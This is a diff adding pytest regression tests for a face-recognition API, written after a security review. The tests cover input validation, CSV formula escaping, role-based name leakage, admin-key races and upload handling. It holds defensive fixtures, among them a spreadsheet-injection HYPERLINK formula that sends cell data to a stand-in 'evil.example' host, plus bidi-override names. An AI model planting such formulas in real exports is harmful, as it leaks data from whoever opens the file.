@@ -1,0 +1,382 @@
+"""Regression tests for what an adversarial review of the service found (issue 16): every
+rejected write leaves the gallery listable, numbers and dates out of range are 422, exports
+cannot carry formulas, a recognise key learns no names, the last admin key survives races,
+uploads never touch the disk, and user errors get 4xx codes that the OpenAPI documents."""
+
+from __future__ import annotations
+
+import csv
+import http.client
+import io
+import tempfile
+import threading
+import time
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+import uvicorn
+from fastapi.testclient import TestClient
+
+from marginface.serve import ServeSettings, create_app
+from tests.serve.serve_fakes import FakePipeline, Harness, free_port, make_photo
+
+
+def _deep(depth: int) -> dict:
+    value: Any = 1
+    for _ in range(depth):
+        value = [value]
+    return {"d": value}
+
+
+def _files(*photos: bytes, names: tuple[str, ...] = ()) -> list:
+    names = names or tuple(f"p{i}.png" for i in range(len(photos)))
+    return [("photos", (n, p, "image/png")) for n, p in zip(names, photos, strict=True)]
+
+
+def _counts(h: Harness) -> tuple[int, int]:
+    g = h.client.app.state.service.gallery
+    return g.count_subjects(), g.count_faces()
+
+
+def _error(r: Any) -> dict:
+    return r.json()["error"]
+
+
+# -- 1. writes that are refused leave nothing, and listing keeps working --------------------------
+REJECTED_WRITES = {
+    "deep metadata (JSON)": ("json", {"name": "deep", "metadata": _deep(500)}),
+    "NaN metadata": ("raw", b'{"name": "nan", "metadata": {"x": NaN}}'),
+    "infinite metadata": ("raw", b'{"name": "inf", "metadata": {"x": 1e999}}'),
+    "huge metadata": ("json", {"name": "big", "metadata": {"t": "x" * 20000}}),
+    "NUL in name": ("json", {"name": "a\u0000b"}),
+    "invisible name": ("json", {"name": "\u200b\u200b"}),
+    "bidi override name": ("json", {"name": "\u202eevil"}),
+    "no-break-space name": ("json", {"name": "\u00a0"}),
+    "lone surrogate name": ("raw", b'{"name": "a\\ud800"}'),
+    "deep metadata (enrol form)": ("enrol", {"name": "deep", "metadata": _deep(500)}),
+    "NaN metadata (enrol form)": ("enrol-raw", {"name": "nan", "metadata": '{"x": NaN}'}),
+    "empty name (enrol form)": ("enrol", {"name": "\u00a0 "}),
+    "control name (enrol form)": ("enrol", {"name": "a\nb"}),
+}
+
+
+@pytest.mark.parametrize("kind", sorted(REJECTED_WRITES))
+def test_rejected_writes_store_nothing_and_listing_still_works(
+    harness: Harness, kind: str
+) -> None:
+    import json
+
+    c, enrol = harness.client, harness.headers("enrol")
+    harness.enrol("Kept", make_photo((1, 60)))
+    before = _counts(harness)
+    how, body = REJECTED_WRITES[kind]
+    if how == "json":
+        r = c.post("/v1/subjects", json=body, headers=enrol)
+    elif how == "raw":
+        r = c.post(
+            "/v1/subjects",
+            content=body,
+            headers={**enrol, "Content-Type": "application/json"},
+        )
+    else:
+        data = dict(body)
+        if how == "enrol" and "metadata" in data:
+            data["metadata"] = json.dumps(data["metadata"])
+        r = c.post("/v1/enroll", data=data, files=_files(make_photo((3, 60))), headers=enrol)
+    assert r.status_code == 422, r.text
+    assert _error(r)["code"] == "invalid_request"
+    assert _counts(harness) == before
+    assert harness.pipeline.calls == 1  # the refused enrolment processed no photo
+    listing = c.get("/v1/subjects", headers=enrol)
+    assert listing.status_code == 200 and [s["name"] for s in listing.json()["subjects"]] == [
+        "Kept"
+    ]
+
+
+def test_rejected_updates_keep_the_subject(harness: Harness) -> None:
+    c, enrol = harness.client, harness.headers("enrol")
+    sid = harness.enrol("Kept", make_photo((1, 60)))["subject"]["id"]
+    for body in ({"metadata": _deep(50)}, {"name": "\x00"}, {"name": "\u2066x\u2069"}):
+        r = c.patch(f"/v1/subjects/{sid}", json=body, headers=enrol)
+        assert r.status_code == 422, r.text
+    subject = c.get(f"/v1/subjects/{sid}", headers=enrol).json()
+    assert subject["name"] == "Kept" and subject["metadata"] == {}
+    assert c.get("/v1/subjects", headers=enrol).status_code == 200
+
+
+def test_names_are_stored_normalised(harness: Harness) -> None:
+    r = harness.client.post(
+        "/v1/subjects", json={"name": "  Zoe\u0301 "}, headers=harness.headers("enrol")
+    )
+    assert r.status_code == 201 and r.json()["name"] == "Zoé"
+
+
+def test_name_filter_is_literal(harness: Harness) -> None:
+    c, enrol = harness.client, harness.headers("enrol")
+    for name in ("Ann", "Bob", "100% sure"):
+        assert c.post("/v1/subjects", json={"name": name}, headers=enrol).status_code == 201
+    body = c.get("/v1/subjects", params={"name": "%"}, headers=enrol).json()
+    assert [s["name"] for s in body["subjects"]] == ["100% sure"] and body["total"] == 1
+    assert c.get("/v1/subjects", params={"name": "_"}, headers=enrol).json()["total"] == 0
+
+
+# -- 2. CSV exports hold no formulas ---------------------------------------------------------------
+def test_csv_exports_neutralise_formulas(harness: Harness) -> None:
+    c, admin = harness.client, harness.headers("admin")
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    harness.enrol(evil, make_photo((4, 60)))
+    r = c.post(
+        "/v1/identify",
+        files={"photo": ("q.png", make_photo((4, 70)), "image/png")},
+        data={"source": "@SUM(1+1)*cmd"},
+        headers=harness.headers("recognise"),
+    )
+    assert r.status_code == 200 and r.json()["faces"][0]["match"]["name"] == evil
+    events = list(csv.DictReader(io.StringIO(c.get("/v1/events?format=csv", headers=admin).text)))
+    assert events[0]["source"] == "'@SUM(1+1)*cmd" and events[0]["subject_name"] == "'" + evil
+    day = c.get("/v1/attendance", headers=admin).json()["date"]
+    rows = list(
+        csv.DictReader(io.StringIO(c.get(f"/v1/attendance?format=csv&date={day}",
+                                         headers=admin).text))
+    )
+    assert rows[0]["name"] == "'" + evil and rows[0]["sources"] == "'@SUM(1+1)*cmd"
+    # JSON keeps the text as it was given
+    assert c.get("/v1/events", headers=admin).json()["events"][0]["source"] == "@SUM(1+1)*cmd"
+
+
+# -- 3. numbers and dates out of range -------------------------------------------------------------
+@pytest.mark.parametrize(
+    ("method", "path"),
+    [
+        ("GET", "/v1/subjects?offset=9223372036854775808"),
+        ("GET", "/v1/subjects?offset=-1"),
+        ("GET", "/v1/events?offset=9223372036854775808"),
+        ("GET", "/v1/subjects/abc/faces/9223372036854775808/crop"),
+        ("GET", "/v1/subjects/abc/faces/-9223372036854775809/crop"),
+        ("DELETE", "/v1/subjects/abc/faces/9223372036854775808"),
+        ("DELETE", "/v1/subjects/abc/faces/0"),
+        ("GET", "/v1/attendance?date=9999-12-31&tz=Pacific/Kiritimati"),
+        ("GET", "/v1/attendance?date=0001-01-01&tz=Etc/GMT%2B12"),
+        ("GET", "/v1/events?date=9999-12-31&tz=Pacific/Kiritimati"),
+        ("GET", "/v1/events?since=9999-12-31T23:59:59&tz=Pacific/Kiritimati"),
+        ("GET", "/v1/events?until=0001-01-01T00:00:00"),
+        ("GET", "/v1/subjects/" + "x" * 65),
+    ],
+)
+def test_out_of_range_parameters_are_422(harness: Harness, method: str, path: str) -> None:
+    r = harness.client.request(method, path, headers=harness.headers("admin"))
+    assert r.status_code == 422, r.text
+    assert _error(r)["code"] == "invalid_request"
+
+
+def test_the_last_day_in_range_still_answers(harness: Harness) -> None:
+    r = harness.client.get(
+        "/v1/attendance?date=9998-12-31&tz=Pacific/Kiritimati", headers=harness.headers("admin")
+    )
+    assert r.status_code == 200 and r.json()["rows"] == []
+
+
+@pytest.fixture
+def failing_server(tmp_path: Path) -> Iterator[tuple[int, str]]:
+    """A real uvicorn server whose /v1/subjects listing fails unexpectedly."""
+    settings = ServeSettings(db=str(tmp_path / "gallery.db"), port=free_port(), workers=1)
+    app = create_app(settings, pipeline=FakePipeline())
+
+    from marginface.serve.deps import get_gallery
+
+    class Broken:
+        def list_subjects(self, **kwargs: Any) -> Any:
+            raise RuntimeError("disk on fire")
+
+    async def broken() -> Any:
+        return Broken()
+
+    app.dependency_overrides[get_gallery] = broken
+    server = uvicorn.Server(
+        uvicorn.Config(app, host="127.0.0.1", port=settings.port, log_level="critical")
+    )
+    thread = threading.Thread(target=server.run, daemon=True)
+    thread.start()
+    deadline = time.monotonic() + 20
+    while not server.started:
+        assert thread.is_alive() and time.monotonic() < deadline
+        time.sleep(0.02)
+    try:
+        yield settings.port, settings.key_file.read_text().strip()
+    finally:
+        server.should_exit = True
+        thread.join(timeout=20)
+
+
+def test_an_unexpected_error_is_a_json_500_that_keeps_the_connection(
+    failing_server: tuple[int, str],
+) -> None:
+    port, admin = failing_server
+    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
+    conn.request("GET", "/v1/subjects", headers={"X-API-Key": admin})
+    r = conn.getresponse()
+    body = r.read()
+    assert r.status == 500 and b"internal_error" in body and b"fire" not in body
+    assert (r.getheader("connection") or "").lower() != "close"
+    conn.request("GET", "/healthz")  # the same connection still works
+    r2 = conn.getresponse()
+    assert r2.status == 200 and r2.read()
+    conn.close()
+
+
+# -- 4. a recognise key learns the decision only ---------------------------------------------------
+def _identify(h: Harness, role: str) -> dict:
+    r = h.client.post(
+        "/v1/identify",
+        files={"photo": ("q.png", make_photo((5, 60), (6, 60), (12, 60)), "image/png")},
+        headers=h.headers(role),
+    )
+    assert r.status_code == 200, r.text
+    return r.json()
+
+
+def test_recognise_keys_get_no_candidates(harness: Harness) -> None:
+    harness.enrol("Five", make_photo((5, 60)))
+    harness.enrol("Six", make_photo((6, 60)))
+    faces = _identify(harness, "recognise")["faces"]
+    assert [f["match"]["name"] if f["match"] else None for f in faces] == ["Five", "Six", None]
+    assert all(f["candidates"] is None for f in faces)
+    assert "Five" not in str(faces[2]) and "Six" not in str(faces[2])
+    for role in ("enrol", "admin"):
+        faces = _identify(harness, role)["faces"]
+        assert faces[2]["candidates"] and {c["name"] for c in faces[2]["candidates"]} <= {
+            "Five",
+            "Six",
+        }
+
+
+def test_candidates_for_recognise_keys_can_be_turned_on(tmp_path: Path) -> None:
+    settings = ServeSettings(db=str(tmp_path / "g.db"), recognise_candidates=True, max_matches=1)
+    with TestClient(create_app(settings, pipeline=FakePipeline())) as client:
+        admin = {"X-API-Key": settings.key_file.read_text().strip()}
+        key = client.post("/v1/keys", json={"name": "door", "role": "recognise"}, headers=admin)
+        client.post(
+            "/v1/enroll",
+            data={"name": "Five"},
+            files=_files(make_photo((5, 60))),
+            headers=admin,
+        )
+        r = client.post(
+            "/v1/identify",
+            files={"photo": ("q.png", make_photo((5, 60)), "image/png")},
+            headers={"X-API-Key": key.json()["secret"]},
+        )
+        assert [c["name"] for c in r.json()["faces"][0]["candidates"]] == ["Five"]
+
+
+# -- 5. the last admin key ------------------------------------------------------------------------
+def test_concurrent_revocations_leave_an_admin_key(harness: Harness) -> None:
+    c, admin = harness.client, harness.headers("admin")
+    own = c.get("/v1/me", headers=admin).json()["id"]
+    other = c.post("/v1/keys", json={"name": "second", "role": "admin"}, headers=admin).json()
+    other_headers = {"X-API-Key": other["secret"]}
+    barrier = threading.Barrier(2)
+    statuses: list[int] = []
+
+    def revoke(key_id: str, headers: dict[str, str]) -> None:
+        barrier.wait()
+        statuses.append(c.delete(f"/v1/keys/{key_id}", headers=headers).status_code)
+
+    threads = [
+        threading.Thread(target=revoke, args=(other["key"]["id"], admin)),
+        threading.Thread(target=revoke, args=(own, other_headers)),
+    ]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join(timeout=30)
+    assert sorted(statuses) in ([204, 409], [204, 401])  # refused, or the caller was revoked
+    gallery = c.app.state.service.gallery
+    assert gallery.count_api_keys("admin") == 1
+
+
+# -- 6. uploads stay in memory ---------------------------------------------------------------------
+def test_large_uploads_are_never_spooled_to_disk(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    rolled: list[str] = []
+    real = tempfile.TemporaryFile
+
+    def recording(*args: Any, **kwargs: Any) -> Any:
+        rolled.append("rolled over to disk")
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(tempfile, "TemporaryFile", recording)
+    photo = make_photo((7, 120), size=(1100, 900), fmt="BMP")
+    assert len(photo) > 2 * 1024 * 1024  # above Starlette's 1 MB spool
+    settings = ServeSettings(db=str(tmp_path / "g.db"), max_upload_mb=8)
+    with TestClient(create_app(settings, pipeline=FakePipeline())) as client:
+        admin = {"X-API-Key": settings.key_file.read_text().strip()}
+        r = client.post(
+            "/v1/enroll",
+            data={"name": "Big"},
+            files=[("photos", ("big.bmp", photo, "image/bmp"))],
+            headers=admin,
+        )
+        assert r.status_code == 201, r.text
+        r = client.post(
+            "/v1/identify", files={"photo": ("q.bmp", photo, "image/bmp")}, headers=admin
+        )
+        assert r.json()["faces"][0]["match"]["name"] == "Big"
+    assert rolled == []
+
+
+# -- 8. status codes: 422 for input, 400 for unreadable images, 409 for conflicts only ------------
+def test_verify_against_a_subject_without_faces_is_422(harness: Harness) -> None:
+    c, enrol = harness.client, harness.headers("enrol")
+    sid = c.post("/v1/subjects", json={"name": "Empty"}, headers=enrol).json()["id"]
+    r = c.post(
+        "/v1/verify",
+        files={"photo": ("q.png", make_photo((1, 60)), "image/png")},
+        data={"subject_id": sid},
+        headers=enrol,
+    )
+    assert r.status_code == 422 and "no enrolled faces" in _error(r)["message"]
+
+
+def test_unreadable_enrolment_photos_are_400_and_named(harness: Harness) -> None:
+    c, enrol = harness.client, harness.headers("enrol")
+    r = c.post(
+        "/v1/enroll",
+        data={"name": "X"},
+        files=_files(b"not an image", b"", names=("holiday.jpg", "empty.png")),
+        headers=enrol,
+    )
+    assert r.status_code == 400, r.text
+    error = _error(r)
+    assert error["code"] == "invalid_image"
+    assert "holiday.jpg" in error["message"] and "empty.png" in error["message"]
+    assert "bytes>" not in error["message"]
+    assert [d["status"] for d in error["details"]] == ["unreadable", "unreadable"]
+    # a mix of unreadable and faceless photos is still "no face enrolled"
+    blank = make_photo()
+    r = c.post(
+        "/v1/enroll",
+        data={"name": "X"},
+        files=_files(b"junk", blank, names=("junk.jpg", "blank.png")),
+        headers=enrol,
+    )
+    assert r.status_code == 422 and _error(r)["code"] == "no_face_enrolled"
+    assert _counts(harness) == (0, 0)
+    r = c.post(
+        "/v1/identify", files={"photo": ("door.jpg", b"junk", "image/jpeg")}, headers=enrol
+    )
+    assert r.status_code == 400 and _error(r)["message"].startswith("door.jpg:")
+
+
+def test_every_status_code_is_documented(harness: Harness) -> None:
+    """The codes these routes now answer with appear in the OpenAPI document."""
+    spec = harness.client.get("/openapi.json").json()["paths"]
+    assert "400" in spec["/v1/enroll"]["post"]["responses"]
+    assert "409" in spec["/v1/keys/{key_id}"]["delete"]["responses"]
+    assert "409" not in spec["/v1/subjects"]["post"]["responses"]
+    face = spec["/v1/subjects/{subject_id}/faces/{face_id}"]["delete"]["parameters"]
+    face_id = next(p for p in face if p["name"] == "face_id")["schema"]
+    assert face_id["minimum"] == 1 and face_id["maximum"] == 2**63 - 1
